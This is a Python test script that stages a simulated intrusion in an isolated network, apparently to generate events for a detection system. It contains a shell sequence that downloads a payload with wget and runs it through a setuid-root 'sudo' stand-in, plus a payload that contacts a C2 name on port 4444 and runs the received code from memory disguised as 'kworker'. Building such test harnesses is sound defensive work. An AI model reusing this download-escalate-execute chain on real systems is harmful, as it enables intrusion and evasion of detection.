# SPDX-License-Identifier: MIT
"""An attack from download to code in memory, in a network of its own.

The last lines of the output are the process id of the shell that does it all, and the
directory. A copy of setpriv(1) that is owned by root with the bit of set-user-id
stands for sudo: it is there without a configuration of its own.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from kernel.events.dns.actions_dns import set_up
from support.dns_server import V4

NOBODY = 65534
HTTP, CONTROLLER = ("127.0.0.1", 8000), (socket.inet_ntoa(V4), 4444)
NAME = "c2.a.test"

STORY = """
wget -q -O update http://127.0.0.1:8000/update.txt
chmod +x update
./sudo --reuid 0 --regid 0 --clear-groups ./update
exit 0
"""
#: What is downloaded: it asks for a name, connects, keeps what it gets, and runs it.
UPDATE = f"""#!{os.path.realpath(sys.executable)} -I
import os, socket
(*_, where), *_ = socket.getaddrinfo("{NAME}", {CONTROLLER[1]}, socket.AF_INET)
with socket.create_connection(where[:2]) as connection:
    code = connection.makefile("rb").read()
with open("dropped", "wb") as file:
    file.write(code)
fd = os.memfd_create("update", os.MFD_CLOEXEC)
os.write(fd, code)
os.execve(fd, ["kworker"], {{}})
"""


def control(listener: socket.socket) -> None:
    """Send a program to whoever connects."""
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.sendall(Path("/bin/true").read_bytes())


def main() -> None:
    set_up()
    address = ["ip", "address", "add", f"{CONTROLLER[0]}/32", "dev", "lo"]
    subprocess.run(address, check=True)
    with tempfile.TemporaryDirectory(dir="/var/tmp") as name:
        place, web = Path(name), Path(name, "web")
        web.mkdir()
        (web / "update.txt").write_text(UPDATE)
        shutil.copy(shutil.which("setpriv") or "/usr/bin/setpriv", place / "sudo")
        os.chmod(place / "sudo", 0o4755)
        os.chmod(place, 0o777)
        handler = partial(Quiet, directory=os.fspath(web))
        server = ThreadingHTTPServer(HTTP, handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        listener = socket.create_server(CONTROLLER)
        threading.Thread(target=control, args=(listener,), daemon=True).start()
        shell = subprocess.Popen(
            ["/bin/sh", "-c", STORY], cwd=place, user=NOBODY, group=NOBODY, umask=0o022
        )
        print(shell.pid, place, sep="\n")
        assert shell.wait() == 0
        assert (place / "dropped").read_bytes() == Path("/bin/true").read_bytes()


class Quiet(SimpleHTTPRequestHandler):
    """Serves files and says nothing."""

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


if __name__ == "__main__":
    main()
